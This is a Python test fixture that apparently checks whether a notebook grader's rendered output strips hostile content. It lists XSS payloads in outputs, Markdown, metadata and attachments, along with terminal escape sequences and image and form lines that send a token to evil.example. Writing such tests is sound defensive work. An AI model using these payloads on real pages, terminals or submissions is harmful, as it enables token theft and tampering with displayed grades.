# ruff: noqa: E501 - programs are shorter to read as they are
"""Members that want whoever reads the result: script, style and escapes in what is stored."""

from tests.security.hostile import WRONG, Hostile, Notebook, cell_of, own_cell

SCRIPT = "<script>window.stolen = '$TOKEN'</script>"


def _shows(code: str) -> dict[str, str]:
    return {"mean": "from IPython.display import *\n" + code + WRONG}


OUTPUTS = [
    Hostile("outputs", name, tries, _shows(code), absent=("script",), potency="rendered")
    for name, tries, code in [
        ("script", "A display with a script.", f"display(HTML({SCRIPT!r}))\n"),
        ("handler", "An image that fails has a handler.",
         "display(HTML('<img src=x onerror=\"window.stolen=1\">'))\n"),
        ("frame", "A frame with a document of its own.",
         "display(HTML('<iframe srcdoc=\"<script>parent.stolen=1</script>\"></iframe>'))\n"),
        ("address that acts", "A link whose address is a program.",
         "display(HTML('<a href=\"java&#10;script:stolen()\">marks</a>'))\n"),
        ("drawing", "An SVG with a script.",
         "display(HTML('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"stolen()\">"
         "<script>stolen()</script></svg>'))\n"),
        ("program output", "An output of the type JavaScript.",
         "display(Javascript('window.stolen = 1'))\n"),
        ("Markdown output", "Markdown that holds HTML.",
         "display(Markdown('**a**\\n\\n<img src=x onerror=stolen()>'))\n"),
        ("formula", "A formula with a link and an attribute.",
         "display(Latex(r'$\\href{javascript:stolen()}{x}\\style{position:fixed}{y}$'))\n"),
        ("style", "A style that shows other marks than there are.",
         "display(HTML('<style>.score { visibility: hidden }</style>'))\n"),
        ("broken markup", "A script hidden in what parsers repair differently.",
         "display(HTML('<svg/onload=stolen()//'))\n"),
        ("closes its place", "End tags that leave the cell, then a form.",
         "display(HTML('</div></div></div></body>"
         "<form action=//evil.example><input name=score></form>'))\n"),
        ("image from outside", "An image that tells its server who reads.",
         "display(HTML('<img src=\"https://evil.example/$TOKEN.png\">'))\n"),
        ("own class", "An object whose _repr_mimebundle_ returns a script.",
         "class Own:\n    def _repr_mimebundle_(self, *a, **k):\n"
         f"        return {{'text/html': {SCRIPT!r}, 'application/javascript': 'stolen()'}}\n"
         "display(Own())\n"),
        ("widget", "Widget state, and a message to the front end's comm.",
         "display({'application/vnd.jupyter.widget-view+json': {'model_id': 'x'},\n"
         f"         'text/html': {SCRIPT!r}}}, raw=True)\n"
         "get_ipython().kernel.session.send(get_ipython().kernel.iopub_socket, 'comm_open',\n"
         "    {'comm_id': 'x', 'target_name': 'stolen', 'data': {}})\n"),
    ]
]  # fmt: skip

_OLD = "nbconvert before 6.5.1 wrote it into the page as it was (CVE-2021-32862)."
OUTPUTS += [
    Hostile("outputs", name, tries, _shows(code), absent=("script",), potency=_OLD)
    for name, tries, code in [
        ("image that is none", "The text of an image closes its attribute.",
         "display({'image/jpeg': 'x\" onerror=\"stolen()'}, raw=True)\n"),
        ("size of an image", "The width of an image closes its attribute.",
         "display({'image/png': 'iVBORw0KGgo='}, raw=True,\n"
         "    metadata={'image/png': {'width': '1\" onerror=\"stolen()'}})\n"),
    ]
]  # fmt: skip
OUTPUTS += [
    Hostile("outputs", "error text", "An exception whose name and text are HTML.",
            _shows(f"raise type({SCRIPT!r}, (Exception,), {{}})({SCRIPT!r})\n"),
            absent=("script",), outcomes=("error",),
            potency="A page that shows an error's text without escaping it runs the script.")
]  # fmt: skip

ESCAPES = [
    Hostile("terminal escapes", name, tries, _shows(f"print({text!r})\n"), absent=("escapes",),
            potency="rendered")
    for name, tries, text in [
        ("title", "The terminal's title, from which some read commands back.",
         "\x1b]0;$TOKEN\x07\x1b[21t"),
        ("clipboard", "The clipboard is written.", "\x1b]52;c;JFRPS0VO\x07"),
        ("screen", "The screen is cleared and other marks are written.",
         "\x1b[2J\x1b[1;1Hscore 10 of 10\x1bc"),
        ("single character", "The one-byte form of an escape.", "\x9b2J\x9d0;x\x9c"),
    ]
]  # fmt: skip


def _markdown(text: str) -> object:
    def change(notebook: Notebook) -> None:
        notebook["cells"].append(own_cell(text, "markdown"))

    return change


def _written(notebook: Notebook) -> None:
    cell_of(notebook, "choice")["source"] = "The median.\n\n<svg onload=stolen()>"


def _metadata(notebook: Notebook) -> None:
    notebook["metadata"] |= {"title": SCRIPT, "authors": [{"name": SCRIPT}], "widgets": {"x": 1}}
    cell = own_cell("x = 1")
    cell["metadata"] = {"tags": [SCRIPT], "name": SCRIPT, "extra": SCRIPT}
    notebook["cells"].append(cell)
    cell_of(notebook, "choice")["metadata"]["nbgrader"]["comment"] = SCRIPT
    notebook["cells"].append(own_cell(SCRIPT, "markdown"))


def _attachment(notebook: Notebook) -> None:
    cell = own_cell(
        "![a](attachment:a.svg)\n\n<object data='attachment:a.svg'></object>", "markdown"
    )
    cell["attachments"] = {"a.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9ImFsZXJ0KCkiLz4="}}
    notebook["cells"].append(cell)


def _raw(notebook: Notebook) -> None:
    cell = own_cell(SCRIPT, "raw")
    cell["metadata"] = {"raw_mimetype": "text/html", "format": "text/html"}
    notebook["cells"].append(cell)


SOURCES = [
    Hostile("markdown", name, tries, change=change, answers={"mean": WRONG},  # type: ignore[arg-type]
            absent=("script",),
            potency="Exporters that pass raw cells on write them as they are."
            if name == "raw cell" else "rendered")
    for name, tries, change in [
        ("script in a cell", "A Markdown cell with a script.", _markdown(SCRIPT)),
        ("written answer", "The answer that a person reads acts in the browser.", _written),
        ("link", "A link in Markdown whose address is a program.",
         _markdown("[marks](javascript:stolen())\n\n<javascript:stolen()>\n\n[x]: data:text/html,x")),
        ("mermaid", "A diagram, which a page's script renders.",
         _markdown("```mermaid\ngraph TD; A[\"<img src=x onerror=stolen()>\"]\n```\n<b onclick=s()>")),
        ("formula in a cell", "A formula that makes an attribute.",
         _markdown("$\\href{javascript:stolen()}{x}$ $$\\cssId{score}{1}$$ <i onclick=s()>")),
        ("metadata", "Titles, tags, names and ids that are markup.", _metadata),
        ("attachment", "An attached drawing that acts.", _attachment),
        ("raw cell", "A raw cell that is HTML.", _raw),
    ]
]  # fmt: skip

MEMBERS = [*OUTPUTS, *ESCAPES, *SOURCES]
